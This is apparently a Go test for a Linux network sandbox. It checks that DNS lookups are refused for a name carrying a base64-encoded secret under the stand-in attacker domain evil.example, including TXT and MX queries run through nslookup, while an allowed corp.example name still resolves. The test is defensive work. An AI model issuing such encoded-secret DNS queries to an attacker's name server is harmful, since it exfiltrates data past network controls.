//go:build linux

package network

import (
	"strings"
	"testing"
)

// TestN06_NamesUnderRanges looks up, under rules for ranges, a name that carries a secret, and asks for text records, with
// which an attacker's name server could answer.
func TestN06_NamesUnderRanges(t *testing.T) {
	i, l := newInternet(t), newLab(t)
	d := i.nameServer(map[string][]string{"c2VjcmV0.evil.example": {server4}, "db.corp.example": {server4}})
	port := i.serve(server4+":0", welcome)
	p := listPolicy("{cidr: "+server4+"/32, ports: ["+port+"], dns: [corp.example]}", "{cidr: 0.0.0.0/0, protocol: udp}")
	var dialled, asked result
	i.withNameServer(func() *live {
		return l.start(l.spec(p, "client", "dial", "db.corp.example:"+port, "c2VjcmV0.evil.example:"+port))
	}, &dialled)
	if got := dialled.outcomes()["db.corp.example:"+port]; got != "ok" {
		t.Errorf("db.corp.example: %q", got)
	}
	dialled.refused(t, "c2VjcmV0.evil.example:"+port)
	i.withNameServer(func() *live {
		return l.start(l.spec(p, "sh", "-c", "nslookup -type=txt c2VjcmV0.evil.example; nslookup -type=mx c2VjcmV0.evil.example; nslookup -type=txt db.corp.example"))
	}, &asked)
	if d.count("c2VjcmV0.evil.example")+d.count("c2vjcmv0.evil.example") != 0 {
		t.Error("the name was asked upstream")
	}
	if d.count("db.corp.example") == 0 {
		t.Error("no name that the rule opens was asked upstream")
	}
	var denied int
	for _, c := range asked.connections {
		if c.Protocol == "dns" && !c.Allowed && c.Suggest == `{dns: ["c2vjcmv0.evil.example"]}` && strings.HasSuffix(c.Reason, "questions about c2vjcmv0.evil.example") {
			denied++
		}
	}
	if denied != 2 {
		t.Errorf("reports %+v, want one for TXT and one for MX", asked.connections)
	}
}
